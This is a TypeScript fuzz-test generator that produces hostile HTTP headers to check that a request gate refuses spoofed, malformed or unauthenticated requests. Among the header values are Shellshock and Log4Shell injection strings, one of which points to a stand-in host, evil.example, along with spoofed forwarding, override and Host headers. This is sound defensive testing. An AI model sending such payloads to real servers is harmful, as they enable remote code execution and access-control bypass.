/**
 * Inputs about headers: names and values that the gate must not trust, in requests that must be
 * refused or that only read.
 */
import type { Random } from "../seeded-random.ts";
import { EXAMPLE_BODIES } from "./example-bodies.ts";
import type { Ground } from "./ground.ts";
import { chance, type Header, type Made, oddText, pick, visibleText, wholeIn } from "./input.ts";
import { FUZZ_SALES, GUARDED_FOLDERS, IDEMPOTENCY_KEY } from "./names.ts";

const { live } = FUZZ_SALES;

function printable(text: string): string {
  return text.replaceAll(/[^\x20-\x7e]/g, "?");
}

const ADDRESSES = [
  "127.0.0.1",
  "::1",
  "10.0.0.1",
  "999.1.1.1",
  "[::ffff:1.2.3.4]",
  "",
  "localhost",
];

const ODD_HEADERS: readonly ((random: Random) => Header)[] = [
  (random) => ["x-http-method-override", pick(random, ["DELETE", "PUT", "POST", "CONNECT", ""])],
  (random) => ["x-method-override", pick(random, ["DELETE", "PATCH"])],
  (random) => ["x-original-url", pick(random, ["/_sluice/admin/v1/sales", "/", "//evil.example"])],
  (random) => ["x-rewrite-url", pick(random, ["/_sluice/admin/v1/sales", "/admin"])],
  (random) => ["x-forwarded-host", pick(random, ["evil.example", "", "a,b", "127.0.0.1:1"])],
  (random) => ["x-forwarded-for", pick(random, ADDRESSES)],
  (random) => ["x-forwarded-proto", pick(random, ["https", "javascript", ""])],
  (random) => ["forwarded", `for=${pick(random, ADDRESSES)};host=evil.example;proto=https`],
  (random) => ["cf-connecting-ip", pick(random, ADDRESSES)],
  (random) => ["cf-worker", pick(random, ["evil.example", ""])],
  (random) => ["cf-ray", visibleText(random, 40)],
  (random) => ["cf-ipcountry", pick(random, ["T1", "XX", "🏴", ""]).replaceAll(/[^A-Z0-9]/g, "")],
  (random) => ["true-client-ip", pick(random, ADDRESSES)],
  (random) => ["sluice-admission-revoke", pick(random, ["1", "0", ""])],
  (random) => ["sluice-admission-extend", pick(random, ["3600", "-1", "1e9", "NaN"])],
  (random) => ["sluice-admin", pick(random, ["1", "true"])],
  (random) => ["sluice-subject", visibleText(random, 20)],
  (random) => [
    "accept",
    pick(random, ["", "*/*;q=0", "application/json", "text/html,*/*", ",,,", "x".repeat(2000)]),
  ],
  (random) => ["accept-language", pick(random, ["xx-YY", "*", "en;q=9", "../../", ""])],
  (random) => ["accept-encoding", pick(random, ["gzip, br", "*;q=0", "deflate", "evil"])],
  (random) => ["range", pick(random, ["bytes=0-", "bytes=-1", "bytes=9-1", "lines=1"])],
  (random) => ["if-none-match", pick(random, ["*", '""', "W/", "a"])],
  (random) => ["if-modified-since", pick(random, ["never", "Thu, 01 Jan 1970 00:00:00 GMT"])],
  (random) => ["sec-fetch-dest", pick(random, ["document", "script", "evil", ""])],
  (random) => ["sec-fetch-mode", pick(random, ["navigate", "no-cors", "evil"])],
  (random) => ["sec-websocket-key", visibleText(random, 24)],
  (random) => ["referer", pick(random, ["https://evil.example", "about:blank", "javascript:1"])],
  (random) => ["user-agent", pick(random, ["", "() { :;}; echo", "${jndi:ldap://evil.example/a}"])],
  (random) => ["prefer", pick(random, ["respond-async", "return=minimal"])],
  (random) => ["te", pick(random, ["trailers", "chunked", "gzip"])],
  () => ["via", "1.1 evil"],
  (random) => ["content-language", visibleText(random, 30)],
  (random) => [
    `x-${visibleText(random, 12).replaceAll(/[^A-Za-z0-9]/g, "a")}`,
    printable(oddText(random)),
  ],
  (random) => ["x-long", "v".repeat(wholeIn(random, 1000, 8000))],
];

function oddHeaders(random: Random): Header[] {
  if (chance(random, 0.03)) {
    return Array.from({ length: wholeIn(random, 50, 150) }, (_, index) => [`x-many-${index}`, "a"]);
  }
  const odd = Array.from({ length: wholeIn(random, 1, 5) }, () =>
    pick(random, ODD_HEADERS)(random),
  );
  return [...new Map(odd)];
}

/** A read by an admitted shopper; no header may turn it into a write. */
function readWith(random: Random, ground: Ground): Made {
  const { admission, queued } = ground.tokens;
  const target = pick(random, [
    `/_sluice/v1/sales/${live}/status`,
    `/_sluice/v1/sales/${live}`,
    `/_sluice/v1/sales/${live}/fairness`,
    `/_sluice/v1/orders/${ground.order.id}?key=${ground.order.viewKey}`,
    `/_sluice/shop/${live}`,
    `/_sluice/shop/${live}/cart`,
    `/_sluice/admin/v1/sales/${live}/audit`,
    "/_sluice/admin/v1/dead-letters",
    "/_sluice/.well-known/jwks.json",
    "/_sluice/openapi.json",
  ]);
  return {
    what: `odd headers on a read, at ${target}`,
    expect: "harmless",
    request: {
      kind: "http",
      method: pick(random, ["GET", "GET", "GET", "HEAD"]),
      target,
      headers: [
        ["sluice-admission", admission],
        ["sluice-ticket", queued],
        ["authorization", `Bearer ${ground.adminToken}`],
        ...oddHeaders(random),
      ],
      body: null,
    },
  };
}

const BAD_TYPES: readonly string[] = [
  "",
  "text/plain",
  "text/json",
  "application/jsonp",
  "application/json5",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "multipart/form-data",
  "application/json/",
  "application /json",
  "*/*",
  "application/*",
  "text/plain; application/json",
  "text/plain, application/json",
];

/** A valid cart or order of an admitted shopper, with a media type other than JSON. */
function wrongType(random: Random, ground: Ground): Made {
  const [method, target, name] = pick(random, [
    ["PUT", `/_sluice/v1/sales/${live}/cart`, "put /v1/sales/{sale}/cart"],
    ["POST", "/_sluice/v1/orders", "post /v1/orders"],
  ] as const);
  return {
    what: `a body of another media type, at ${method} ${target}`,
    expect: "refused",
    request: {
      kind: "http",
      method,
      target,
      headers: [
        ["sluice-admission", ground.tokens.admission],
        ["idempotency-key", IDEMPOTENCY_KEY],
        ["content-type", pick(random, BAD_TYPES)],
        ...oddHeaders(random),
      ],
      body: JSON.stringify(EXAMPLE_BODIES[name]),
    },
  };
}

const BAD_KEYS: readonly ((random: Random) => string | null)[] = [
  () => null,
  () => "",
  () => "a key",
  () => "a\tb",
  () => "\u00e9",
  () => "\u00ff".repeat(20),
  () => "k".repeat(129),
  (random) => "k".repeat(wholeIn(random, 130, 6000)),
  // Keys that can be guessed.
  (random) => `user-${wholeIn(random, 1, 100_000)}`,
  (random) => String(wholeIn(random, 0, 1_000_000)).padStart(wholeIn(random, 1, 38), "0"),
  (random) => "k".repeat(wholeIn(random, 1, 128)),
  (random) => `order-2036-01-01-of-the-customer-${wholeIn(random, 1, 100_000)}`,
];

/** A valid order with an invalid idempotency key. */
function badKey(random: Random, ground: Ground): Made {
  const key = pick(random, BAD_KEYS)(random);
  return {
    what: "an order with an invalid key",
    expect: "refused",
    request: {
      kind: "http",
      method: "POST",
      target: "/_sluice/v1/orders",
      headers: [
        ["sluice-admission", ground.tokens.admission],
        ["content-type", "application/json"],
        ...(key === null ? [] : ([["idempotency-key", key]] as const)),
        ...oddHeaders(random),
      ],
      body: JSON.stringify(EXAMPLE_BODIES["post /v1/orders"]),
    },
  };
}

/** A write without a token; no other header may replace it. */
function anonymousWrite(random: Random, ground: Ground): Made {
  const [method, target, name] = pick(random, [
    ["PUT", `/_sluice/v1/sales/${live}/cart`, "put /v1/sales/{sale}/cart"],
    ["POST", `/_sluice/v1/sales/${live}/admissions`, null],
    ["DELETE", `/_sluice/v1/sales/${live}/admissions/current`, null],
    ["POST", `/_sluice/admin/v1/sales/${live}/actions`, "post /admin/v1/sales/{sale}/actions"],
    [
      "PATCH",
      `/_sluice/admin/v1/sales/${live}/admission`,
      "patch /admin/v1/sales/{sale}/admission",
    ],
    ["DELETE", `/_sluice/admin/v1/webhook-endpoints/${ground.endpoint}`, null],
  ] as const);
  const json: Header[] = name === null ? [] : [["content-type", "application/json"]];
  return {
    what: `a write without a token and with odd headers, at ${method} ${target}`,
    expect: "refused",
    request: {
      kind: "http",
      method,
      target,
      headers: [["idempotency-key", IDEMPOTENCY_KEY], ...json, ...oddHeaders(random)],
      body: name === null ? null : JSON.stringify(EXAMPLE_BODIES[name]),
    },
  };
}

const SEPARATORS = ["-", "_", ".", "~", "!", "'", "*"];
const FOR_GATE_OR_SHOP = [
  ["Sluice", "Admission"],
  ["Sluice", "Replay"],
  ["sluice", "x", "y"],
  ["X", "Original", "URL"],
  ["X", "Rewrite", "URL"],
  ["X", "HTTP", "Method", "Override"],
  ["X", "Method", "Override"],
  ["X", "Forwarded", "Host"],
  ["X", "Forwarded", "Prefix"],
  ["X", "Script", "Name"],
];

/** Headers that the shop must not be sent, in names that CGI and WSGI fold to one. */
function foldedNames(random: Random, ground: Ground): Made {
  const headers = Array.from({ length: wholeIn(random, 1, 6) }, (): Header => {
    const parts = pick(random, FOR_GATE_OR_SHOP);
    const name = parts.reduce((text, part) => `${text}${pick(random, SEPARATORS)}${part}`);
    const isUpper = chance(random, 0.3);
    return [isUpper ? name.toUpperCase() : name, pick(random, ["1", "/open", "PUT", "a.example"])];
  });
  const isIn = chance(random, 0.5);
  const own: Header = ["cookie", `__Host-sluice-admission-${live}=${ground.tokens.admission}`];
  return {
    what: "headers that the shop must not be sent",
    expect: "harmless",
    request: {
      kind: "http",
      method: "GET",
      target: isIn ? `${GUARDED_FOLDERS.live}/shoe` : "/open",
      headers: [["accept", "*/*"], ...(isIn ? [own] : []), ...headers],
      body: null,
    },
  };
}

/** Only in `Host`, so it can be in an answer only because of that. */
const EVIL_HOST = "host-of-a-stranger.example";

/** A request with a name of a stranger: no address of the gate's leads there. */
function strangersHost(random: Random, ground: Ground): Made {
  const shopper: Header = ["sluice-admission", ground.tokens.admission];
  const target = pick(random, [
    `/_sluice/shop/${live}`,
    `/_sluice/shop/${live}/cart`,
    `/_sluice/shop/${live}/fairness`,
    `/_sluice/shop/${live}/receipt`,
    `/_sluice/v1/sales/${live}`,
    `/_sluice/v1/orders/${ground.order.id}?key=${ground.order.viewKey}`,
    `/_sluice/shop/${live}/orders/${ground.order.id}?key=${ground.order.viewKey}`,
    "/_sluice/openapi.json",
    "/_sluice/nothing",
    "/_sluice/shop",
    `${GUARDED_FOLDERS.live}/shoe`,
    `${GUARDED_FOLDERS.later}/shoe`,
  ]);
  const isSecure = chance(random, 0.6);
  const isShop = !target.startsWith("/_sluice");
  const accept = isShop ? "*/*" : pick(random, ["text/html", "application/json", "*/*"]);
  return {
    what: `a stranger's host, at ${target}`,
    expect: "harmless",
    without: EVIL_HOST,
    request: {
      kind: "http",
      method: "GET",
      target,
      headers: [
        ["host", pick(random, [EVIL_HOST, `${EVIL_HOST}:8443`, `${EVIL_HOST}.`])],
        ["accept", accept],
        ...(isSecure ? [["x-forwarded-proto", "https"] as const] : []),
        ...(isShop ? [] : [shopper]),
      ],
      body: null,
    },
  };
}

export function headerInput(random: Random, ground: Ground): Made {
  const make = pick(random, [
    readWith,
    readWith,
    wrongType,
    badKey,
    anonymousWrite,
    foldedNames,
    strangersHost,
  ]);
  return make(random, ground);
}
